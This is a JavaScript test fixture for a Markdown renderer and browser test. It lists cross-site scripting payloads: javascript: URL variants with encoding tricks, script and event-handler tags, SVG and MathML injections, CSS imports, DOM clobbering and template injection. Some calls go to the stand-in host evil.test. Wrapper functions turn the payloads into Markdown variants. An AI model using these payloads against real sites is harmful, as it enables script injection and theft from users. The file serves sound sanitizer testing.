// Texts that try to become more than text. Used by the unit test of the Markdown renderer and, through
// every field of the page, by the browser test. Each would set `window.pwned`, open a dialog or call out.

const SCRIPTS = [
  "javascript:window.pwned=1", "JaVaScRiPt:window.pwned=1", " javascript:window.pwned=1", "\u0001javascript:window.pwned=1",
  "java\tscript:window.pwned=1", "java\nscript:window.pwned=1", "java\rscript:window.pwned=1", "javascript&colon;window.pwned=1",
  "javascript&#58;window.pwned=1", "javascript&#x3a;window.pwned=1", "&#106;avascript:window.pwned=1", "&#x6A&#x61vascript:window.pwned=1",
  "javascript%3Awindow.pwned=1", "jav&#x09;ascript:window.pwned=1", "jav&Tab;ascript:window.pwned=1", "javascript:\u00a0window.pwned=1",
  "vbscript:msgbox(1)", "data:text/html,<script>window.pwned=1</script>", "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg onload=window.pwned=1>", "data:application/javascript,window.pwned=1", "blob:http://127.0.0.1/x", "file:///etc/passwd",
  "filesystem:http://127.0.0.1/x", "view-source:http://evil.test/", "about:blank", "livescript:window.pwned=1", "mocha:window.pwned=1",
  "feed:javascript:window.pwned=1", "jar:http://evil.test/x!/y", "intent://evil.test#Intent;end", "ms-settings:x", "tel:+1", "ws://evil.test/", "ftp://evil.test/",
  "//evil.test/x", "\\\\evil.test\\x", "/\\evil.test", "../../__mock/drop", "?token=x", "#login=x", "https:javascript:window.pwned=1",
];

const HTML = [
  "<script>window.pwned=1</script>", "<SCRIPT SRC=//evil.test/x.js></SCRIPT>", "<script\n>window.pwned=1</script\n>", "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
  "<img src=x onerror=window.pwned=1>", "<img src='https://evil.test/p.gif'>", "<IMG SRC=javascript:window.pwned=1>", '<img """><script>window.pwned=1</script>">',
  "<img src=x:x onerror\n=\nwindow.pwned=1>", "<img/src/onerror=window.pwned=1>", "<image src=x onerror=window.pwned=1>", "<svg onload=window.pwned=1>",
  "<svg><script>window.pwned=1</script></svg>", "<svg><a xlink:href=javascript:window.pwned=1><text>x</text></a></svg>", "<svg><animate onbegin=window.pwned=1 attributeName=x>",
  "<svg><set attributeName=href to=javascript:window.pwned=1>", "<svg><foreignObject><iframe src=//evil.test></foreignObject></svg>", "<math><mtext><script>window.pwned=1</script>",
  "<math><maction actiontype=statusline xlink:href=javascript:window.pwned=1>x", "<iframe src=javascript:window.pwned=1>", "<iframe srcdoc='<script>parent.pwned=1</script>'>",
  "<object data=javascript:window.pwned=1>", "<embed src=//evil.test/x.swf>", "<link rel=stylesheet href=//evil.test/x.css>", "<link rel=import href=//evil.test>",
  "<style>@import '//evil.test/x.css';</style>", "<style>*{background:url(//evil.test/b)}</style>", "<div style=background:url(//evil.test/b)>x</div>",
  "<base href=//evil.test/>", "<meta http-equiv=refresh content='0;url=//evil.test'>", "<form action=//evil.test><input autofocus onfocus=window.pwned=1>",
  "<button formaction=javascript:window.pwned=1>x", "<input autofocus onfocus=window.pwned=1>", "<textarea autofocus onfocus=window.pwned=1>", "<select autofocus onfocus=window.pwned=1>",
  "<details open ontoggle=window.pwned=1>", "<video src=x onerror=window.pwned=1>", "<audio src=x onerror=window.pwned=1>", "<video poster=//evil.test/p>", "<source onerror=window.pwned=1>",
  "<body onload=window.pwned=1>", "<marquee onstart=window.pwned=1>", "<a href=javascript:window.pwned=1>x</a>", "<a href='https://evil.test' onclick=window.pwned=1>x</a>",
  "<table background=//evil.test/t>", "<td background=//evil.test/t>", "<template><script>window.pwned=1</script></template>", "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
  "<!--><img src=x onerror=window.pwned=1>-->", "<![CDATA[<script>window.pwned=1</script>]]>", "<?xml version='1.0'?><script>window.pwned=1</script>", "<!DOCTYPE x [<!ENTITY y SYSTEM '//evil.test'>]>",
  "</textarea><script>window.pwned=1</script>", "</title><script>window.pwned=1</script>", "</style><script>window.pwned=1</script>", "\"><script>window.pwned=1</script>", "'-window.pwned=1-'",
  "\u003cscript\u003ewindow.pwned=1\u003c/script\u003e", "&lt;script&gt;window.pwned=1&lt;/script&gt;", "%3Cscript%3Ewindow.pwned=1%3C/script%3E", "<x onpointerenter=window.pwned=1 style=position:fixed;inset:0>",
  "<custom-element onclick=window.pwned=1>", "<slot onslotchange=window.pwned=1>", "<portal src=//evil.test>", "<dialog open onclose=window.pwned=1>", "<a id=location href=//evil.test>", "<form id=document><input name=cookie>",
  "{{constructor.constructor('window.pwned=1')()}}", "${window.pwned=1}", "<%= window.pwned=1 %>", "\u202e\u2066<script>window.pwned=1</script>", "<scr\u0000ipt>window.pwned=1</script>", "\ufeff<script>window.pwned=1</script>",
];

const WRAPPERS = [
  (url) => `[click](${url})`, (url) => `[click](<${url}>)`, (url) => `[click](${url} "title")`, (url) => `![image](${url})`, (url) => `<${url}>`,
  (url) => `[click][ref]\n\n[ref]: ${url}`, (url) => `![image][ref]\n\n[ref]: <${url}>`, (url) => `[![image](${url})](${url})`, (url) => `<a href="${url}">x</a>`, (url) => url,
];

const CONTEXTS = [
  (html) => html, (html) => `> ${html}`, (html) => `- ${html}`, (html) => `| a |\n|---|\n| ${html} |`, (html) => `# ${html}`, (html) => `**${html}**`,
  (html) => `\`\`\`${html.replaceAll("\n", " ")}\n${html}\n\`\`\``, (html) => `\`${html}\``, (html) => `[${html}](https://example.org)`, (html) => `![${html}](https://evil.test/p.png)`,
];

/** Payloads as they are, for names and other plain fields. */
export const RAW = [...HTML, ...SCRIPTS];

/** Payloads dressed as Markdown in every way the renderer knows. */
export const MARKDOWN = [...SCRIPTS.flatMap((url) => WRAPPERS.map((wrap) => wrap(url))), ...HTML.flatMap((html) => CONTEXTS.map((put) => put(html)))];
